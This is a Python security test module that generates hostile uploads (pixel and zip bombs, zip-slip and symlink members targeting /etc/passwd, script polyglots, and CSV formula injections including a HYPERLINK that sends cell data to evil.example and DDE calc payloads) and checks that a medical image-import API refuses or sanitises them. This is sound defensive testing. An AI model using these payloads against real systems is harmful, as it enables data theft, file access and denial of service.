"""A corpus of hostile uploads, made by code at test time, and the probe that pushes each one
through the coordinator's real upload path.

``CORPUS`` names every upload with what must come of it: refused with an error that names
the file (and the row and field where there is one), or accepted with every stored image
re-encoded from pixels alone. ``corpus_build`` writes the files; nothing binary is committed.

``python -m tests.security.hostile CORPUS_DIR RESULTS_JSON`` is the probe: a process of its
own (so that its peak memory is the upload's, not the test runner's) that posts each upload
to the import API as a coordinator, runs the import task, and records the errors, the time,
the peak resident memory (VmHWM, reset before each upload through /proc/self/clear_refs),
every path that appeared or vanished under the scratch folder, and the JPEG markers and
canaries in each stored image. Everything it writes to the database is rolled back.
"""

from __future__ import annotations

import io
import json
import os
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import asdict, dataclass, field
from pathlib import Path

import numpy as np
from PIL import Image

from tests.support.memory import peak_rss, peak_rss_reset

# Planted in metadata and polyglot payloads; a stored image must contain none of them.
PATIENT = "Jane CANARY-Doe, born 1961-02-03, MRN 4711-CANARY"
SCRIPT = b"<script>alert('polyglot-CANARY')</script>"
CANARIES = (
    PATIENT.encode(),
    PATIENT.encode("utf-16-le"),
    b"CANARY",
    b"<script",
    b"Exif\x00",
    b"adobe:ns:meta",
    b"<html",
)
MANIFEST_HEADER = ("image", "diagnosis", "biopsy_proven", "case_id", "lesion_id", "confirmation")
XMP = (
    '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description '
    f'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>{PATIENT}</dc:creator>'
    "</rdf:Description></rdf:RDF></x:xmpmeta>"
).encode()


@dataclass
class Upload:
    """What is posted: a zip, or a manifest with image files (paths in the corpus folder)."""

    archive: str = ""
    manifest: str = ""
    images: list[str] = field(default_factory=list)
    # Absolute paths that an escape from the upload area would create.
    escapes: list[str] = field(default_factory=list)


@dataclass(frozen=True)
class Hostile:
    build: Callable[[Path, str], Upload]
    # Words the errors must contain, all of them (the file, row and field, and why);
    # empty: the upload must be accepted and its stored images sanitised.
    refusal: tuple[str, ...] = ()


# --- building blocks ------------------------------------------------------------------------


def photo(seed: int, size: tuple[int, int] = (96, 72)) -> Image.Image:
    pixels = np.random.default_rng(seed).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    return Image.fromarray(pixels)


def encoded(image: Image.Image, kind: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, kind, **options)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A PNG whose header declares width x height RGB pixels; its data holds almost none."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\x00" * 64))
        + png_chunk(b"IEND", b"")
    )


def png_real(path: Path, width: int, height: int) -> None:
    """A complete, valid RGB PNG of width x height, streamed row by row to keep memory low."""
    compressor = zlib.compressobj(6)
    row = b"\x00" + bytes(range(256)) * (width * 3 // 256) + b"\x00" * (width * 3 % 256)
    with path.open("wb") as sink:
        sink.write(b"\x89PNG\r\n\x1a\n")
        sink.write(png_chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)))
        idat = bytearray()
        for _ in range(height):
            idat += compressor.compress(row)
        idat += compressor.flush()
        sink.write(png_chunk(b"IDAT", bytes(idat)))
        sink.write(png_chunk(b"IEND", b""))


def jpeg_declaring(width: int, height: int) -> bytes:
    """A real small JPEG whose frame header (SOF0) is changed to declare width x height."""
    data = bytearray(encoded(photo(1, (16, 16)), "JPEG", quality=80))
    sof = data.index(b"\xff\xc0")
    struct.pack_into(">HH", data, sof + 5, height, width)
    return bytes(data)


def tiff_declaring(width: int, height: int) -> bytes:
    """A little-endian greyscale TIFF whose tags declare width x height, with one strip."""
    entries = [
        (256, 4, 1, width),  # ImageWidth, LONG
        (257, 4, 1, height),  # ImageLength
        (258, 3, 1, 8),  # BitsPerSample
        (259, 3, 1, 1),  # Compression: none
        (262, 3, 1, 1),  # Photometric: black is zero
        (273, 4, 1, 8),  # StripOffsets: right after the header
        (277, 3, 1, 1),  # SamplesPerPixel
        (278, 4, 1, height),  # RowsPerStrip
        (279, 4, 1, 16),  # StripByteCounts
    ]
    ifd_offset = 8 + 16
    ifd = struct.pack("<H", len(entries))
    for tag, kind, count, value in entries:
        ifd += struct.pack("<HHII" if kind == 4 else "<HHIHxx", tag, kind, count, value)
    ifd += struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", ifd_offset) + b"\x00" * 16 + ifd


def jpeg_with_patient_data(seed: int) -> bytes:
    """A photograph with the patient's name in EXIF, the GPS IFD, XMP and the JPEG comment."""
    exif = Image.Exif()
    exif[0x010E] = PATIENT  # ImageDescription
    exif[0x013B] = PATIENT  # Artist
    exif[0x8825] = {0x0001: "N", 0x0002: (52.0, 31.0, 12.0), 0x001B: PATIENT}  # GPS
    return encoded(
        photo(seed), "JPEG", quality=92, exif=exif.tobytes(), xmp=XMP, comment=PATIENT.encode()
    )


def png_with_text_chunks(seed: int) -> bytes:
    """A PNG with the patient's name in tEXt, zTXt and iTXt (XMP) chunks and an eXIf chunk."""
    plain = encoded(photo(seed), "PNG")
    end = plain.index(b"IEND") - 4
    exif = Image.Exif()
    exif[0x010E] = PATIENT
    extra = (
        png_chunk(b"tEXt", b"Patient\x00" + PATIENT.encode("latin-1"))
        + png_chunk(b"zTXt", b"Comment\x00\x00" + zlib.compress(PATIENT.encode()))
        + png_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + XMP)
        + png_chunk(b"eXIf", exif.tobytes())
    )
    return plain[:end] + extra + plain[end:]


def html_png_polyglot(seed: int) -> bytes:
    """A valid PNG that is also a web page: HTML in a text chunk and after the image end."""
    plain = encoded(photo(seed), "PNG")
    end = plain.index(b"IEND") - 4
    page = b"<html><body>" + SCRIPT + b"</body></html>"
    return plain[:end] + png_chunk(b"tEXt", b"Comment\x00" + page) + plain[end:] + page


def manifest(folder: Path, rows: list[dict[str, str]]) -> str:
    import csv

    path = folder / "manifest.csv"
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=MANIFEST_HEADER)
        writer.writeheader()
        for row in rows:
            writer.writerow({"diagnosis": "nv", "biopsy_proven": "true", **row})
    return path.name


def images_upload(folder: Path, name: str, data: bytes, **cells: str) -> Upload:
    """One image file and a manifest whose row 2 names it."""
    (folder / name).write_bytes(data)
    return Upload(manifest=manifest(folder, [{"image": name, **cells}]), images=[name])


def zip_upload(
    folder: Path,
    members: list[tuple[str | zipfile.ZipInfo, bytes]],
    name: str = "set.zip",
    escapes: tuple[str, ...] = (),
    image: str = "lesion.jpg",
) -> Upload:
    """A zip of ``members`` with a manifest whose row 2 names ``image``."""
    with zipfile.ZipFile(folder / name, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("manifest.csv", ",".join(MANIFEST_HEADER) + f"\n{image},nv,true,,,\n")
        for member, data in members:
            archive.writestr(member, data)
    return Upload(archive=name, escapes=list(escapes))


def zip_patched(path: Path, member: str, patch: Callable[[bytearray, int, bool], None]) -> None:
    """Edit ``member``'s local header and directory entry in place: ``patch(data, offset,
    is_directory_entry)``, for what zipfile will not write (lies, flags)."""
    data = bytearray(path.read_bytes())
    name = member.encode()
    for start in range(len(data) - 4):
        if data[start : start + 4] == b"PK\x03\x04" and data[start + 30 :].startswith(name):
            patch(data, start, False)
        if data[start : start + 4] == b"PK\x01\x02" and data[start + 46 :].startswith(name):
            patch(data, start, True)
    path.write_bytes(bytes(data))


def link(name: str) -> zipfile.ZipInfo:
    """A symbolic link member (its data is the target)."""
    info = zipfile.ZipInfo(name)
    info.create_system = 3  # Unix: the mode bits below are read
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return info


def special(name: str) -> zipfile.ZipInfo:
    info = zipfile.ZipInfo(name)
    info.create_system = 3
    info.external_attr = (stat.S_IFCHR | 0o644) << 16
    return info


# --- the corpus ------------------------------------------------------------------------------


def _png_100_megapixels(folder: Path, marker: str) -> Upload:
    png_real(folder / "huge.png", 10_000, 10_000)
    return Upload(manifest=manifest(folder, [{"image": "huge.png"}]), images=["huge.png"])


def _png_at_the_pixel_limit(folder: Path, marker: str) -> Upload:
    """The largest image the limit lets through (7071 x 7071 < 50 megapixels): honest about
    its size, it must be decoded, and so is the upload that costs the most memory."""
    png_real(folder / "largest.png", 7071, 7071)
    return Upload(manifest=manifest(folder, [{"image": "largest.png"}]), images=["largest.png"])


def _zip_bomb(folder: Path, marker: str) -> Upload:
    """256 MiB of zeros deflated to a few hundred KiB, streamed so it is never in memory."""
    path = folder / "bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED, compresslevel=9) as bundle:
        bundle.writestr("manifest.csv", "image,diagnosis\nlesion.jpg,nv\n")
        info = zipfile.ZipInfo("images/lesion.jpg")
        info.compress_type = zipfile.ZIP_DEFLATED
        with bundle.open(info, "w", force_zip64=True) as member:
            zeros = bytes(1024 * 1024)
            for _ in range(256):
                member.write(zeros)
    return Upload(archive=path.name)


def _zip_lying_sizes(folder: Path, marker: str) -> Upload:
    """A member whose headers say 4000 bytes while it inflates to 8 MiB."""
    upload = zip_upload(folder, [("images/lesion.jpg", bytes(8 * 1024 * 1024))], "lying.zip")

    def understate(data: bytearray, at: int, directory: bool) -> None:
        struct.pack_into("<I", data, at + (24 if directory else 22), 4000)

    zip_patched(folder / upload.archive, "images/lesion.jpg", understate)
    return upload


def _zip_encrypted(folder: Path, marker: str) -> Upload:
    """A member flagged as encrypted (bit 0 of its flags)."""
    upload = zip_upload(folder, [("images/lesion.jpg", encoded(photo(4), "JPEG"))], "locked.zip")

    def lock(data: bytearray, at: int, directory: bool) -> None:
        data[at + (8 if directory else 6)] |= 0x1

    zip_patched(folder / upload.archive, "images/lesion.jpg", lock)
    return upload


def _inner_zip() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as inner:
        inner.writestr("lesion.jpg", encoded(photo(5), "JPEG"))
    return buffer.getvalue()


def _formula(column: str, value: str) -> Callable[[Path, str], Upload]:
    def build(folder: Path, marker: str) -> Upload:
        cells = {"case_id": "c1", column: value}
        return images_upload(folder, "lesion.jpg", encoded(photo(6), "JPEG"), **cells)

    return build


CORPUS: dict[str, Hostile] = {
    # Pixel bombs: a few bytes that declare billions of pixels.
    "png-pixel-bomb": Hostile(
        lambda d, m: images_upload(d, "bomb.png", png_declaring(100_000, 100_000)),
        ("manifest.csv", "row 2", "field image", "bomb.png", "100000x100000", "exceeds the limit"),
    ),
    "png-one-pixel-wide-strip": Hostile(
        lambda d, m: images_upload(d, "strip.png", png_declaring(1, 60_000_000)),
        ("manifest.csv", "row 2", "strip.png", "1x60000000", "exceeds the limit"),
    ),
    "jpeg-pixel-bomb": Hostile(
        lambda d, m: images_upload(d, "bomb.jpg", jpeg_declaring(65_500, 65_500)),
        ("manifest.csv", "row 2", "field image", "bomb.jpg", "65500x65500", "exceeds the limit"),
    ),
    "tiff-pixel-bomb": Hostile(
        lambda d, m: images_upload(d, "bomb.tif", tiff_declaring(100_000, 100_000)),
        ("manifest.csv", "row 2", "bomb.tif", "100000x100000", "exceeds the limit"),
    ),
    "png-100-megapixels": Hostile(
        _png_100_megapixels,
        ("manifest.csv", "row 2", "huge.png", "10000x10000", "100.0 megapixels", "exceeds"),
    ),
    # Several images in one file.
    "animated-png": Hostile(
        lambda d, m: images_upload(
            d, "frames.png", encoded(photo(7), "PNG", save_all=True, append_images=[photo(8)])
        ),
        ("manifest.csv", "row 2", "frames.png", "2 frames"),
    ),
    "two-page-tiff": Hostile(
        lambda d, m: images_upload(
            d, "pages.tif", encoded(photo(9), "TIFF", save_all=True, append_images=[photo(10)])
        ),
        ("manifest.csv", "row 2", "pages.tif", "2 frames or pages"),
    ),
    # Other formats under an image's name, and formats that are not accepted.
    "gif-named-jpg": Hostile(
        lambda d, m: images_upload(d, "lesion.jpg", encoded(photo(11), "GIF")),
        ("manifest.csv", "row 2", "lesion.jpg", "not a JPEG, PNG or TIFF image"),
    ),
    "svg-named-jpg": Hostile(
        lambda d, m: images_upload(
            d,
            "lesion.jpg",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>",
        ),
        ("manifest.csv", "row 2", "lesion.jpg", "not a JPEG, PNG or TIFF image"),
    ),
    "pdf-named-jpg": Hostile(
        lambda d, m: images_upload(
            d,
            "lesion.jpg",
            b"%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>"
            b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n",
        ),
        ("manifest.csv", "row 2", "lesion.jpg", "not a JPEG, PNG or TIFF image"),
    ),
    "html-named-png": Hostile(
        lambda d, m: images_upload(d, "lesion.png", b"<!doctype html><html>" + SCRIPT),
        ("manifest.csv", "row 2", "lesion.png", "not a JPEG, PNG or TIFF image"),
    ),
    "svg-file": Hostile(
        lambda d, m: images_upload(
            d, "lesion.svg", b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>"
        ),
        ("manifest.csv", "row 2", "field image", "lesion.svg", "not a JPEG, PNG or TIFF"),
    ),
    "svg-in-a-zip": Hostile(
        lambda d, m: zip_upload(
            d,
            [
                (
                    "images/lesion.svg",
                    b'<svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT + b"</svg>",
                )
            ],
            image="lesion.svg",
        ),
        ("manifest.csv", "row 2", "images/lesion.svg", "not a JPEG, PNG or TIFF"),
    ),
    "truncated-jpeg": Hostile(
        lambda d, m: images_upload(
            d, "cut.jpg", encoded(photo(12, (256, 192)), "JPEG", quality=95)[:3000]
        ),
        ("manifest.csv", "row 2", "cut.jpg", "cannot decode"),
    ),
    "empty-file": Hostile(
        lambda d, m: images_upload(d, "empty.jpg", b""),
        ("manifest.csv", "row 2", "empty.jpg", "empty file"),
    ),
    # Accepted, and stored as pixels alone.
    "png-at-the-pixel-limit": Hostile(_png_at_the_pixel_limit),
    "jpeg-exif-gps-xmp-comment": Hostile(
        lambda d, m: images_upload(d, "patient.jpg", jpeg_with_patient_data(13))
    ),
    "png-text-chunks": Hostile(
        lambda d, m: images_upload(d, "patient.png", png_with_text_chunks(14))
    ),
    "html-in-png-polyglot": Hostile(
        lambda d, m: images_upload(d, "polyglot.png", html_png_polyglot(15))
    ),
    "jpeg-with-html-after-the-end": Hostile(
        lambda d, m: images_upload(
            d, "trailer.jpg", encoded(photo(16), "JPEG") + b"<html>" + SCRIPT
        )
    ),
    "zip-of-a-jpeg-with-patient-data": Hostile(
        lambda d, m: zip_upload(d, [("images/lesion.jpg", jpeg_with_patient_data(17))])
    ),
    # Archives.
    "zip-bomb": Hostile(_zip_bomb, ("bomb.zip", "images/lesion.jpg", "zip bomb")),
    "zip-member-larger-than-declared": Hostile(_zip_lying_sizes, ("lying.zip", "unpack")),
    "nested-zip": Hostile(
        lambda d, m: zip_upload(d, [("images/inner.zip", _inner_zip())]),
        ("set.zip", "images/inner.zip", "nested archives are refused"),
    ),
    "zip-inside-a-zip-named-jpg": Hostile(
        lambda d, m: zip_upload(d, [("images/lesion.jpg", _inner_zip())]),
        ("set.zip", "images/lesion.jpg", "nested archives are refused"),
    ),
    "zip-slip": Hostile(
        lambda d, m: zip_upload(
            d, [(f"../../../../hostile-escape-{m}.jpg", encoded(photo(20), "JPEG"))]
        ),
        ("set.zip", "hostile-escape", "zip slip"),
    ),
    "zip-slip-backslashes": Hostile(
        lambda d, m: zip_upload(
            d, [(f"..\\..\\..\\..\\hostile-escape-{m}.jpg", encoded(photo(21), "JPEG"))]
        ),
        ("set.zip", "hostile-escape", "zip slip"),
    ),
    "zip-absolute-path": Hostile(
        lambda d, m: zip_upload(
            d,
            [(f"/tmp/hostile-escape-{m}/lesion.jpg", encoded(photo(22), "JPEG"))],
            escapes=(f"/tmp/hostile-escape-{m}",),
        ),
        ("set.zip", "hostile-escape", "absolute path"),
    ),
    "zip-symlink-to-a-system-file": Hostile(
        lambda d, m: zip_upload(d, [(link("images/lesion.jpg"), b"/etc/passwd")]),
        ("set.zip", "images/lesion.jpg", "symbolic link"),
    ),
    "zip-symlinked-folder-written-through": Hostile(
        lambda d, m: zip_upload(
            d,
            [
                (link("images"), f"/tmp/hostile-escape-{m}".encode()),
                ("images/lesion.jpg", encoded(photo(24), "JPEG")),
            ],
            escapes=(f"/tmp/hostile-escape-{m}",),
        ),
        ("set.zip", "field images:", "symbolic link"),
    ),
    "zip-device-file": Hostile(
        lambda d, m: zip_upload(d, [(special("images/lesion.jpg"), b"")]),
        ("set.zip", "images/lesion.jpg", "special file"),
    ),
    "zip-encrypted-member": Hostile(_zip_encrypted, ("locked.zip", "encrypted member")),
    "empty-zip": Hostile(
        lambda d, m: Upload(archive=_write(d, "set.zip", b"")), ("set.zip", "not a zip file")
    ),
    "png-named-zip": Hostile(
        lambda d, m: Upload(archive=_write(d, "set.zip", encoded(photo(26), "PNG"))),
        ("set.zip", "not a zip file"),
    ),
    # Manifests: formulas a spreadsheet would run, paths out of the upload, a giant cell.
    "manifest-formula-equals": Hostile(
        _formula("case_id", '=HYPERLINK("http://evil.example/?"&A1,"open")'),
        ("manifest.csv", "row 2", "field case_id", "formula"),
    ),
    "manifest-formula-plus": Hostile(
        _formula("lesion_id", "+cmd|' /C calc'!A0"),
        ("manifest.csv", "row 2", "field lesion_id", "formula"),
    ),
    "manifest-formula-minus": Hostile(
        _formula("lesion_id", "-2+3+cmd|' /C calc'!A0"),
        ("manifest.csv", "row 2", "field lesion_id", "formula"),
    ),
    "manifest-formula-at": Hostile(
        _formula("confirmation", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("manifest.csv", "row 2", "field confirmation", "formula"),
    ),
    "manifest-path-traversal": Hostile(
        lambda d, m: Upload(
            manifest=manifest(d, [{"image": "../../../../etc/passwd"}]),
            images=[_write(d, "lesion.jpg", encoded(photo(27), "JPEG"))],
        ),
        ("manifest.csv", "row 2", "field image", "relative path inside the upload"),
    ),
    "manifest-giant-cell": Hostile(
        _formula("case_id", "A" * (2 * 1024 * 1024)),
        ("manifest.csv", "row 2", "CSV"),
    ),
}


def _write(folder: Path, name: str, data: bytes) -> str:
    (folder / name).write_bytes(data)
    return name


def corpus_build(root: Path, marker: str) -> dict[str, Upload]:
    """Write every upload of the corpus under ``root/<name>/``; returns what to post."""
    uploads = {}
    for name, hostile in CORPUS.items():
        folder = root / name
        folder.mkdir(parents=True)
        uploads[name] = hostile.build(folder, marker)
    (root / "index.json").write_text(json.dumps({k: asdict(v) for k, v in uploads.items()}))
    return uploads


# --- the probe (runs in a process of its own) ------------------------------------------------


@dataclass
class Outcome:
    status: str  # "rejected" at upload, or the import job's final status
    errors: list[str]
    seconds: float
    peak_rss_bytes: int
    appeared: list[str]
    vanished: list[str]
    escaped: list[str]
    stored: dict[str, dict[str, object]] = field(default_factory=dict)
    crash: str = ""


def snapshot(root: Path) -> set[str]:
    return {p.relative_to(root).as_posix() + ("/" if p.is_dir() else "") for p in root.rglob("*")}


def jpeg_markers(data: bytes) -> list[str]:
    """The segment markers of a JPEG up to the start of scan (APP1 = EXIF/XMP, FE = COM)."""
    markers, at = [], 2
    while at + 4 <= len(data) and data[at] == 0xFF:
        marker = data[at + 1]
        markers.append(f"{marker:02X}")
        if marker == 0xDA:
            break
        at += 2 + int.from_bytes(data[at + 2 : at + 4], "big")
    return markers


def issue_text(issue: object) -> str:
    if not isinstance(issue, dict):
        return str(issue)
    where = [str(issue.get("file") or "")]
    if issue.get("row"):
        where.append(f"row {issue['row']}")
    if issue.get("field"):
        where.append(f"field {issue['field']}")
    return f"{', '.join(w for w in where if w)}: {issue.get('message', issue)}"


def probe(client, coordinator, name: str, upload: Upload, folder: Path, scratch: Path) -> Outcome:
    import time

    from django.conf import settings

    from readerstudy.studies.models import Case
    from readerstudy.studies.services import study_create, task_resolve
    from readerstudy.studies.tasks import study_import_job_run

    study = study_create(
        name=f"hostile {name}",
        task=task_resolve(name="melanoma-vs-nevus"),
        modality="dermoscopic",
        created_by=coordinator,
    )
    before = snapshot(scratch)
    handles = []

    def opened(relative: str):
        handle = (folder / relative).open("rb")
        handles.append(handle)
        return handle

    peak_rss_reset()
    started = time.perf_counter()
    body: dict[str, object] = {}
    if upload.archive:
        body["archive"] = opened(upload.archive)
    if upload.manifest:
        body["manifest"] = opened(upload.manifest)
    if upload.images:
        body["images"] = [opened(image) for image in upload.images]
    response = client.post(f"/api/v1/studies/{study.pk}/imports/", body, format="multipart")
    for handle in handles:
        handle.close()
    job_id = None
    if response.status_code == 202:
        job_id = response.json()["id"]
        study_import_job_run.apply(kwargs={"import_job_id": job_id}, throw=True)
        job = client.get(f"/api/v1/studies/{study.pk}/imports/{job_id}/").json()
        status, issues = job["status"], job["errors"]
    else:
        status = f"rejected ({response.status_code})"
        if response.get("Content-Type", "").startswith("application/json"):
            payload = response.json()
            issues = payload if isinstance(payload, list) else [json.dumps(payload)]
        else:
            issues = [response.content[:500].decode(errors="replace")]
    seconds = time.perf_counter() - started
    peak = peak_rss()
    after = snapshot(scratch)
    stored: dict[str, dict[str, object]] = {}
    for case in Case.objects.filter(study=study):
        for variant in (case.image, case.display_image, case.thumbnail):
            data = (Path(settings.MEDIA_ROOT) / variant.name).read_bytes()
            stored[variant.name] = {
                "markers": jpeg_markers(data),
                "canaries": [c.decode("latin-1") for c in CANARIES if c in data],
                "bytes": len(data),
            }
    return Outcome(
        status=status,
        errors=[issue_text(issue) for issue in issues],
        seconds=seconds,
        peak_rss_bytes=peak,
        appeared=sorted(after - before),
        vanished=sorted(before - after),
        escaped=[path for path in upload.escapes if os.path.lexists(path)],
        stored=stored,
    )


def main(corpus: Path, results: Path) -> None:
    import django

    django.setup()
    from django.contrib.auth.models import Group, User
    from django.db import transaction
    from rest_framework.test import APIClient

    from readerstudy.accounts.roles import Role

    scratch = corpus.parent
    index = json.loads((corpus / "index.json").read_text())
    outcomes: dict[str, dict] = {}
    with transaction.atomic():
        coordinator = User.objects.create_user(username="hostile-coordinator")
        coordinator.groups.add(Group.objects.get_or_create(name=Role.COORDINATOR.value)[0])
        # A host the settings allow (this process has no test environment adding "testserver").
        client = APIClient(SERVER_NAME="localhost")
        client.force_authenticate(coordinator)
        for name, fields in index.items():
            upload = Upload(**fields)
            try:
                outcome = probe(client, coordinator, name, upload, corpus / name, scratch)
            except Exception as error:  # noqa: BLE001 (the test reports it for that upload)
                import traceback

                outcome = Outcome("crashed", [], 0, 0, [], [], [], crash=traceback.format_exc())
                print(f"{name}: {error!r}", file=sys.stderr)
            outcomes[name] = asdict(outcome)
            results.write_text(json.dumps(outcomes, indent=1))
        # Nothing the probe did stays in the test database.
        transaction.set_rollback(True)


if __name__ == "__main__":
    main(Path(sys.argv[1]), Path(sys.argv[2]))
